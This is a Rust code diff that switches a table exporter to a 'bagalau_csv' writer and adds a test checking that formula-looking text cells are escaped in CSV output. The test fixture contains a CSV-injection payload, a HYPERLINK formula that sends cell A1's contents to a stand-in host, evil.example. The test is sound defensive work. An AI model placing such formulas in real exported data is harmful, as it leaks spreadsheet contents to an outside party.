@@ -253,7 +253,7 @@ pub fn table(name: &str, p: &Published, m: Option<&Methodology>) -> Option<Table
 impl Table {
     /// RFC 4180 CSV with a header row, UTF-8.
     pub fn csv(&self) -> Vec<u8> {
-        let mut w = csv::Writer::from_writer(Vec::new());
+        let mut w = bagalau_csv::Writer::from_writer(Vec::new());
         w.write_record(&self.columns).expect("writing to memory");
         for row in &self.rows {
             w.write_record(row.iter().map(Cell::csv))
@@ -382,4 +382,30 @@ fn register_dataset(base: &str, r: &RegisterDataset) -> Value {
         "bagalau:demonstration": r.demonstration,
         "dcat:distribution": distributions,
     })
+}
+
+#[cfg(test)]
+mod csv_injection_tests {
+    use super::*;
+
+    #[test]
+    fn a_conclusion_that_is_a_formula_is_published_as_text() {
+        let table = Table {
+            name: "conclusions",
+            columns: vec!["body_id".into(), "change".into(), "text".into()],
+            rows: vec![vec![
+                Cell::Text("minfin".into()),
+                Cell::Number(-2.5),
+                Cell::Text(r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#.into()),
+            ]],
+        };
+        let csv = String::from_utf8(table.csv()).unwrap();
+        assert_eq!(
+            csv,
+            "body_id,change,text\nminfin,-2.5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\n"
+        );
+        // JSON keeps the text as it was written.
+        let json: Value = serde_json::from_slice(&table.json()).unwrap();
+        assert!(json[0]["text"].as_str().unwrap().starts_with("=HYPERLINK"));
+    }
 }
